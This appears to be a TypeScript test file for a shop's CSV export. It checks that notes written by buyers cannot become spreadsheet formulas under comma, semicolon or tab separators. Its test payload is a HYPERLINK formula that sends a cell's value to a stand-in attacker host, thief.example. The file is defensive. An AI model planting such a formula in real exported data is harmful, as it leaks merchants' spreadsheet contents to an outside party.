/** Tests that a buyer's text cannot become a formula in the merchant's spreadsheet. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csv } from '../../../server/cli/csv.ts';

/** The fields of a file as a spreadsheet reads it: a quote only counts at the start of a field. */
function fieldsOf(text: string, separator: string): string[] {
  const fields: string[] = [];
  for (let rest = text; rest !== '';) {
    const quoted = /^"((?:[^"]|"")*)"?/.exec(rest);
    const start = quoted?.[0] ?? '';
    const [, more = '', end = ''] =
      new RegExp(`^([^${separator}\r\n]*)([${separator}\r\n]*)`).exec(rest.slice(start.length)) ?? [];
    fields.push((quoted?.[1] ?? '').replaceAll('""', '"') + more);
    rest = rest.slice(start.length + more.length + end.length);
  }
  return fields;
}

const formula = '=HYPERLINK("https://thief.example/?"&A1)';

for (const [name, separator] of [
  ['commas', ','],
  ['semicolons, as Excel in Brazil', ';'],
  ['tabs', '\t'],
] as const) {
  test(`no text of a buyer is a formula, if the spreadsheet separates fields by ${name}`, () => {
    for (const sign of ['=', '+', '-', '@', '＝']) {
      for (const start of ['', 'a;', 'a;"', 'a; ', 'a,', 'a\t', 'a\n', 'a\r\n', 'a"\n"', '" ', ';;']) {
        const note = start + sign + formula.slice(1);
        const text = csv(['reference', 'note'], [{ reference: 'mug-1', note }]);
        const found = fieldsOf(text, separator).filter((field) => /^[\s"]*[=+\-@＝]/.test(field));
        assert.deepEqual(found, [], JSON.stringify(text));
      }
    }
  });
}

test('other text stays as it is', () => {
  const rows = [
    { note: 'Rua das Flores, 10 - fundos; +1 hora: "agora"' },
    { note: 'a-b; c=d' },
    { note: 12 },
  ];
  assert.equal(
    csv(['note'], rows),
    `note\r\n"Rua das Flores, 10 - fundos; '+1 hora: ""agora"""\r\na-b; c=d\r\n12\r\n`,
  );
});
